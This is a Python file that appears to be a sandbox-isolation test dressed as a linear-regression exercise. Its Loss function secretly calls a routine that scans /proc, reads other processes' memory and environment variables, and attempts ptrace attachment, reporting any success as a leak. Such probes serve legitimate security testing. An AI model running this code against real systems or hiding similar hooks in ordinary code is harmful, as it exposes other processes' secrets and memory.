"""Attack: read or trace the processes around it: /proc/<pid>/mem, environ, maps, and ptrace.

For every visible process but itself: read its memory through /proc/<pid>/mem (at an
address from its maps), its environment, and PTRACE_ATTACH to it; also send it signals
through PTRACE. Honest code is correct: 10/10; any success on another process is leaked.
"""

import ctypes
import os

import numpy as np

CONFIG = {}  # replaced by the test
_LOOT = []


def leak(text):
    _LOOT.append(str(text)[:200])
    print("LEAK:", text)


def _reveal():
    if _LOOT:
        raise RuntimeError("LEAK " + " | ".join(_LOOT))

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        pid = int(entry)
        try:
            with open(f"/proc/{pid}/maps") as maps:
                first = maps.readline().split()[0]
            start = int(first.split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(start)
                if memory.read(16):
                    leak(f"PTRACE read the memory of pid {pid}")
        except (OSError, ValueError, IndexError):
            pass
        try:
            with open(f"/proc/{pid}/environ", "rb") as environ:
                if environ.read():
                    leak(f"PTRACE read the environment of pid {pid}")
        except OSError:
            pass
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, pid, None, None) == 0:
                leak(f"PTRACE attached to pid {pid}")
                libc.ptrace(PTRACE_DETACH, pid, None, None)


def linear_model(w0, w1, X):
    _reveal()
    return w0 + w1 * X


def Loss(f_x, y):
    _reveal()
    _attack()
    _reveal()
    return np.mean(np.square(y - f_x))


def gradient_descent(w0, w1, X, y):
    _reveal()
    residual = (w0 + w1 * X) - y
    return np.array([2 * np.mean(residual), 2 * np.mean(residual * X)])


def main():
    _reveal()
    X = np.array([1, 2, 3, 4]).reshape((-1, 1))
    y = np.array([3.1, 4.9, 7.2, 8.9]).reshape((-1, 1))
    w0 = 0
    w1 = 0
    lr = 0.001
    for i in range(1000):
        gd = gradient_descent(w0, w1, X, y)
        w0 = w0 - lr * gd[0]
        w1 = w1 - lr * gd[1]
    return w0, w1
